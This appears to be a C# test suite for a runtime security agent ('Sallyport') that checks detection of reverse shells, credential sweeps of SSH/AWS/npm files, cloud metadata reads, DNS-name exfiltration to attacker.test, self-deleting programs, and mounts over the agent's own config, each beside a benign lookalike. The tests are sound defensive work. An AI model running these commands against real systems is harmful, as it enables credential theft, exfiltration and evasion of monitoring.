using Sallyport.Lab.Reports;

namespace Sallyport.Kernel.Tests;

/// <summary>
/// What processes do that only thieves do, for real, and beside each something that looks like it and is no finding. With the
/// agent off each is shown to work.
/// </summary>
public sealed class DetectionTests(LabFixture fixture) : KernelTest(fixture), IClassFixture<LabFixture>
{
    private const string Home = "/run/lab/work/home";

    /// <summary>Names and contents as a developer's home folder has them; `sh` reads, and makes no copy of itself for it.</summary>
    private static readonly string[] s_home =
    [
        $"rm -rf {Home}; mkdir -p {Home}/.ssh {Home}/.aws {Home}/.docker {Home}/.config/gh; cd {Home}",
        "for f in .ssh/id_ed25519 .aws/credentials .docker/config.json .config/gh/hosts.yml .npmrc; do echo canary > $f; done",
    ];

    [Theory]
    [EveryMode("connect", "terminal")]
    public async Task A_shell_on_a_connection_is_found_and_prevented_where_that_is_asked_for(LabMode mode, string how)
    {
        var run = await Lab.RunAsync(mode, Command("shell", how, Attacker, "4443", "/bin/echo", Canary) with
        {
            Policy = $$"""
                version: 1
                allow: ["tcp://{{Attacker}}:4443"]
                detections: { socket-shell: {{(mode == LabMode.Block ? "block" : "report")}} }
                """,
            Allow = [],
        });
        Assert.True(run.Traffic.Contains(Canary) == (mode != LabMode.Block), run.ToString());
        if (mode != LabMode.Off)
        {
            var row = AssertFound(run, "socket-shell", mode == LabMode.Block ? "blocked" : "reported", "echo");
            Assert.Equal(Attacker, row.Evidence["peer"]);
        }
    }

    [Fact]
    public async Task A_program_whose_output_is_sent_on_is_no_shell()
    {
        var run = await Lab.RunAsync(LabMode.Audit, Command("shell", "pipe", Attacker, "4443", "/bin/echo", Canary));
        Assert.True(run.Traffic.Contains(Canary) && run.Report.Findings.Count == 0, run.ToString());
    }

    /// <summary>Without a runner credentials are looked after where the policy says so.</summary>
    private const string Named = "version: 1\ndetections: { credentials-swept: report }";

    [Theory]
    [EveryMode]
    public async Task One_command_that_looks_into_credentials_of_three_kinds_is_found(LabMode mode)
    {
        // A program of the job's own, in a shell of its own: what a dropped script does.
        var run = await Lab.RunAsync(mode, Script(
            [.. s_home, "sh -c 'cat .ssh/id_ed25519; ln -s .aws/credentials other; cat other; while read l; do echo $l; done < .npmrc'; true"]) with
        {
            Policy = Named,
        });
        Assert.Equal(3, run.Process.Output.Split("canary").Length - 1);
        if (mode != LabMode.Off)
        {
            var row = AssertFound(run, "credentials-swept", "reported", null);
            Assert.StartsWith("sh -c cat", Line(run, row), StringComparison.Ordinal); // its `read` is the third
            Assert.Single(run.Report.Findings, finding => finding.Id == "credentials-swept");
            Assert.Equal("aws, npm, ssh", row.Evidence["credentials"]);
        }
    }

    /// <summary>An action of a step begins with its interpreter, no shell: what it starts is one command.</summary>
    [Fact]
    public async Task A_program_that_is_no_shell_and_starts_another_for_each_kind_is_found()
    {
        const string Spawns = "import subprocess\nfor f in '.ssh/id_ed25519', '.aws/credentials', '.npmrc': subprocess.run(['cat', f], check=True)";
        var run = await Lab.RunAsync(LabMode.Audit, Script([.. s_home, $"exec python3 -c \"{Spawns}\""]) with { Policy = Named });
        Assert.Equal(3, run.Process.Output.Split("canary").Length - 1);
        var row = AssertFound(run, "credentials-swept", "reported", "cat");
        Assert.Contains("python3", row.Evidence["command"], StringComparison.Ordinal);
    }

    [Fact]
    public async Task Commands_that_read_one_kind_each_and_a_tool_that_reads_its_own_are_no_sweep()
    {
        var run = await Lab.RunAsync(LabMode.Audit, Script(
        [
            .. s_home, "cat .ssh/id_ed25519", "cat .aws/credentials", "cat .npmrc", "cat .docker/config.json",
            "echo new > .config/gh/hosts.yml",
            "sh -c 'cat .ssh/id_ed25519 .npmrc; ssh-keygen -y -f .ssh/id_ed25519; git config -l; cat .bashrc' || true",
        ]) with
        {
            Policy = Named,
        });
        Assert.True(run.Report.Findings.Count == 0, run.ToString());
    }

    [Theory]
    [EveryMode]
    public async Task A_program_from_memory_is_found(LabMode mode)
    {
        var run = await Lab.RunAsync(mode, Command("shell", "memory", "/bin/echo", Canary));
        Assert.Contains(Canary, run.Process.Output, StringComparison.Ordinal);
        if (mode != LabMode.Off)
        {
            Assert.Contains(Canary, Line(run, AssertFound(run, "unnamed-program", "reported", null)), StringComparison.Ordinal);
        }
    }

    [Theory]
    [EveryMode]
    public async Task The_metadata_of_the_cloud_is_found_and_refused(LabMode mode)
    {
        // Given to a server of the world; the namespace has no way out.
        var run = await Lab.RunAsync(mode, Script(
            $"curl -sS --max-time 30 http://{Metadata}/{Canary} || echo refused"));
        Assert.Equal(mode != LabMode.Block, run.Traffic.Contains(Canary));
        if (mode != LabMode.Off)
        {
            _ = AssertFound(run, "cloud-metadata-read", mode == LabMode.Block ? "blocked" : "reported", "curl");
        }
    }

    /// <summary>A question to a cloud’s resolver, which has the same address; and a file in memory that nobody runs.</summary>
    [Fact]
    public async Task What_only_looks_like_the_two_of_them_is_none()
    {
        var run = await Lab.RunAsync(LabMode.Audit, Script(
            $"{Program("dns")} ask {Metadata} allowed.test A udp || true",
            $"python3 -c \"import os; f = os.memfd_create('x'); os.write(f, b'{Canary}'); print(os.pread(f, 99, 0).decode())\""));
        Assert.True(run.Process.ExitCode == 0 && run.Process.Output.Contains(Canary, StringComparison.Ordinal), run.ToString());
        Assert.Contains(run.Report.Connections, row => row is { Address: Metadata, Port: 53 });
        Assert.True(run.Report.Findings.Count == 0, run.ToString());
    }

    [Theory]
    [EveryMode]
    public async Task Data_in_names_is_found_and_refused(LabMode mode)
    {
        var run = await Lab.RunAsync(mode, Script(
            $"for part in 1 2; do {Program("dns")} ask {Resolver} "
                + $"$(printf '{Canary}%s' $part | sha256sum | cut -c1-60).{Canary}.attacker.test A udp || true; done"));
        Assert.Equal(mode != LabMode.Block, run.Traffic.Contains(Canary));
        if (mode != LabMode.Off)
        {
            _ = AssertFound(run, "dns-encoded-name", mode == LabMode.Block ? "blocked" : "reported", "dns");
        }
    }

    [Fact]
    public async Task Long_names_and_one_hash_in_a_name_are_no_message()
    {
        string[] names =
        [
            "a-rather-long-but-readable-label-of-a-preview-2026-11.allowed.test",
            "another-rather-long-and-readable-label-for-branch-77.allowed.test",
            "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15.allowed.test",
        ];
        var run = await Lab.RunAsync(LabMode.Audit, Script(
            [.. names.Concat(names).Select(name => $"{Program("dns")} ask {Resolver} {name} A udp")]) with
        {
            Allow = ["*.allowed.test"],
        });
        Assert.True(run.Report.Findings.Count == 0, run.ToString());
    }

    [Theory]
    [EveryMode(
        "printf 'rm \"$0\"' > FILE; sh FILE",
        "cp /bin/rm FILE; FILE FILE",
        "printf '#!/usr/bin/env python3\nimport os, sys\nos.unlink(sys.argv[0])\n' > FILE; chmod 755 FILE; FILE")]
    public async Task A_program_that_takes_itself_away_is_found(LabMode mode, string script)
    {
        foreach (var folder in (string[])["/tmp", "/run/lab/work"])
        {
            var file = $"{folder}/gone-{Guid.NewGuid():N}";
            var run = await Lab.RunAsync(mode, Script(script.Replace("FILE", file, StringComparison.Ordinal), $"test ! -e {file}"));
            Assert.Equal(0, run.Process.ExitCode);
            if (mode != LabMode.Off)
            {
                var row = AssertFound(run, "program-removed-itself", "reported", null);
                Assert.Equal(file, row.Evidence["program"]);
                Assert.Contains(file, Line(run, row), StringComparison.Ordinal);
                Assert.NotEmpty(row.Evidence["removedBy"]);
            }
        }
    }

    [Theory]
    [EveryMode]
    public async Task A_mount_over_the_agents_files_is_found(LabMode mode)
    {
        var run = await Lab.RunAsync(mode, Script(
            "mkdir -p /etc/sallyport; mount -t tmpfs none /etc/sallyport; touch /etc/sallyport/agent.yml"));
        _ = await Lab.OutsideAsync("umount", "/etc/sallyport");
        Assert.Equal(0, run.Process.ExitCode);
        if (mode != LabMode.Off)
        {
            var row = AssertFound(run, "agent-files-covered", "reported", null);
            Assert.Equal(("/etc/sallyport", null), (row.Evidence["place"], row.Process)); // by whom is not known
        }
    }

    [Theory]
    [InlineData("printf 'rm FILE.x' > FILE; touch FILE.x; sh FILE; rm FILE; printf 'echo' > FILE; sh FILE; mv FILE FILE.x; rm FILE.x")]
    [InlineData("mkdir -p /etc/other; mount -t tmpfs none /etc/other; sleep 0.3; umount /etc/other; rmdir /etc/other")]
    public async Task What_is_cleaned_up_and_mounts_elsewhere_are_none(string script)
    {
        var file = $"/tmp/made-{Guid.NewGuid():N}";
        var run = await Lab.RunAsync(LabMode.Audit, Script(
            "cd /run/lab/work", script.Replace("FILE", file, StringComparison.Ordinal), $"rm -f {file}*"));
        Assert.True(run.Process.ExitCode == 0 && run.Report.Findings.Count == 0, run.ToString());
    }
}
